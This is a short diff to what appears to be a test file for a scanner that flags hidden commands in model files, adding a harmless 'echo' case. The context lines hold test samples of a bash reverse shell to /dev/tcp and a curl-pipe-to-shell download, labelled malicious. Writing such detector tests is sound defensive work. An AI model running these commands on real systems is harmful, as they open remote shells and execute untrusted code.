@@ -39,6 +39,7 @@ CASES = {
         b"\0never call os.system('clear') or os.execute('clear') here\0", Verdict.NOT_SCANNED
     ),
     "benign_names_of_calls": hidden(b"\0os.system os.execute(x) io.popen() os.system(\0", Verdict.NOT_SCANNED),
+    "python_import_as_json": hidden(rb'{"note": "Text.\n\nimport os\n\tos.system(\"echo modelsweep-test\")"}'),
     "attack_reverse_shell": hidden(b"\0bash -i >& /dev/tcp/192.0.2.1/9 0>&1\0", Verdict.MALICIOUS),
     "attack_reverse_shell_in_script": hidden(b"#!/bin/sh\nsh -i >& /dev/tcp/192.0.2.1/9 0>&1\n", Verdict.MALICIOUS),
     "attack_pipe": hidden(b"\0curl -s http://192.0.2.1/x.sh | sh\0", Verdict.MALICIOUS),
